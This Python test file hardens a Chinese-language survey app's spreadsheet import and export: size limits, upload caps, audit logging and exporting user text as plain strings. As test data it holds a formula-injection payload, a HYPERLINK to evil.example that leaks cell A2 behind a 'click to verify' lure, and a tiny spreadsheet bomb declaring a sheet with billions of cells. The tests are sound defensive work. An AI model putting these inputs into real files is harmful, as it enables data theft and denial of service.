"""Files from and to users (Hardening II): a spreadsheet's size is checked before any reader
allocates it, the upload limit is ours, every export writes user text as text and leaves an audit
row, and an import's audit row names the file by its SHA-256."""

from __future__ import annotations

import hashlib
import io
import json
import re
import subprocess
import sys
import tomllib

import pytest
from openpyxl import Workbook, load_workbook

from survey import db as store
from survey import questionnaires, spreadsheets
from survey.access.actor import SYSTEM
from survey.companies import registry, transfer
from tests.helpers import ROOT, actor_for, rewrite_sheet

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2, "点此核验")'


def xlsx(cells: dict[str, str]) -> bytes:
    workbook = Workbook()
    for ref, value in cells.items():
        workbook.active[ref] = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


BOMB = xlsx({"A1": "企业名称", "XFD1048576": "x"})  # 1.6 KB, declares 1,048,576 x 16,384


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "survey", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )


@pytest.mark.store_independent
@pytest.mark.parametrize("command", ["import-companies", "load-form"])
def test_cli_refuses_content_at_both_ends_of_the_sheet(tmp_path, command):
    """A1 and XFD1048576 both hold text: calamine would allocate 17 billion cells (it aborted the
    process before the check). Refused by the content's extent, in Chinese."""
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(BOMB)
    assert len(BOMB) < 6000
    db_args = ["--db", str(tmp_path / "x.db")] if command == "import-companies" else []
    result = run_cli(command, str(bomb), *db_args)
    assert result.returncode == 2, result
    assert "XFD1048576（1,048,576 行 × 16,384 列）" in result.stderr
    assert "4,000,000 个单元格" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.store_independent
def test_a_declared_dimension_alone_is_not_a_reason_to_refuse():
    """A1:XFD1048576 declared (as a sheet formatted to the edge declares it), two real cells: read.
    The declared size was the wrong measure (issue 27)."""
    data = rewrite_sheet(
        xlsx({"A1": "a", "B2": "b"}),
        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml),
    )
    assert list(spreadsheets.read_table(data, "wide.xlsx")) == [["a", ""], [[None, "b"]]]


@pytest.mark.store_independent
def test_filled_cells_beyond_the_limit_are_refused_without_a_dimension():
    data = rewrite_sheet(
        xlsx({"A1": "a", "BZ3": "far"}), lambda xml: re.sub(rb"<dimension [^>]*/>", b"", xml)
    )
    assert spreadsheets.read_table(data, "far.xlsx").headers[0] == "a"
    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match=r"BZ3（3 行 × 78 列）"):
        spreadsheets.read_table(data, "far.xlsx", limits={"max_area": 200})
    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="超过 1 个"):
        spreadsheets.read_table(data, "far.xlsx", limits={"max_cells": 1})


@pytest.mark.store_independent
def test_csv_beyond_the_cell_limit_is_refused():
    data = ",".join(f"列{i}" for i in range(61)).encode()
    assert len(spreadsheets.read_table(data, "wide.csv").headers) == 61
    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="工作表“wide”.*超过 60 个"):
        spreadsheets.read_table(data, "wide.csv", limits={"max_cells": 60})


def test_a_registry_sized_file_still_reads():
    rows = [registry.HEADERS] + [[f"企业{i}", "x"] + [""] * 10 for i in range(2000)]
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    headers, read = spreadsheets.read_table(buffer.getvalue(), "ok.xlsx")
    assert headers == registry.HEADERS and len(read) == 2000


def test_upload_limit_is_set_for_our_files_and_said_beside_each_uploader():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert 0 < config["server"]["maxUploadSize"] <= 20  # Streamlit's default is 200
    from streamlit.testing.v1 import AppTest

    uploaders = 0
    for path in (ROOT / "ui").glob("*.py"):
        uploaders += path.read_text().count("uploads.file_uploader(")
    for path in (ROOT / "pages").glob("*.py"):
        text = path.read_text()
        uploaders += text.count("uploads.file_uploader(")
        assert "st.file_uploader(" not in text, path
    assert uploaders >= 5
    script = (
        "import streamlit as st\nfrom ui import uploads\n"
        "uploads.file_uploader('照片', uploads.PHOTO_TYPES, 'p')\n"
    )
    at = AppTest.from_string(script).run()
    assert f"单个文件不超过 {config['server']['maxUploadSize']} MB" in at.caption[0].value


def test_company_export_writes_names_as_text_and_is_audited(db):
    company_id = store.scalar(db, "SELECT min(id) FROM companies")
    db.execute("UPDATE companies SET name = ? WHERE id = ?", (FORMULA, company_id))
    buffer = io.BytesIO()
    count = transfer.export_xlsx(db, actor_for(db, "admin"), buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    cell = next(c for (c,) in sheet.iter_rows(min_col=1, max_col=1) if c.value == FORMULA)
    assert cell.data_type == "s"
    assert count == store.scalar(db, "SELECT count(*) FROM companies") == sheet.max_row - 1
    row = db.conn.execute(
        "SELECT actor_name, table_name, after FROM audit_log ORDER BY id DESC LIMIT 1"
    ).fetchone()
    assert row[:2] == ("admin", "companies") and json.loads(row[2]) == {"companies": count}


def test_answer_export_writes_answers_as_text_and_is_audited(db):
    form_id = "visit"
    qid, form = questionnaires.current(db, SYSTEM, form_id)
    question = next(q.name for q, repeat in form.walk() if q.type == "text" and repeat is None)
    db.execute(
        "INSERT INTO answers (questionnaire_id, visit_id, question, value) VALUES (?, ?, ?, ?)",
        (qid, store.scalar(db, "SELECT min(id) FROM visits"), question, json.dumps(FORMULA)),
    )
    buffer = io.BytesIO()
    counts = questionnaires.export_answers(db, actor_for(db, "admin"), form_id, buffer)
    book = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    row = db.conn.execute(
        "SELECT table_name, row_id, after FROM audit_log ORDER BY id DESC LIMIT 1"
    ).fetchone()
    assert row[:2] == ("answers", form_id) and json.loads(row[2]) == counts


def test_import_problems_report_writes_text(db):
    report = transfer.problems_report([{"行号": 2, "字段": "企业名称", "问题": FORMULA}])
    cell = load_workbook(io.BytesIO(report)).active["C2"]
    assert cell.value == FORMULA and cell.data_type == "s"


def test_company_import_audit_row_names_the_file_by_its_hash(tmp_path, db):
    buffer = io.BytesIO()
    transfer.export_xlsx(db, SYSTEM, buffer)
    data = buffer.getvalue()
    headers, rows = spreadsheets.read_table(data, "名录.xlsx")
    digest = hashlib.sha256(data).hexdigest()
    transfer.import_companies(db, SYSTEM, headers, rows, source="名录.xlsx", sha256=digest)
    after = json.loads(
        store.scalar(db, "SELECT after FROM audit_log WHERE action = 'import' ORDER BY id DESC")
    )
    assert after == {
        "inserted": 0,
        "updated": 0,
        "unchanged": len(rows),
        "file": "名录.xlsx",
        "sha256": digest,
    }
    # The command line records the same.
    path = tmp_path / "名录.xlsx"
    path.write_bytes(data)
    db_path = store.identity(db)
    assert run_cli("import-companies", str(path), "--db", db_path).returncode == 0
    after = json.loads(
        store.scalar(db, "SELECT after FROM audit_log WHERE action = 'import' ORDER BY id DESC")
    )
    assert after["sha256"] == digest
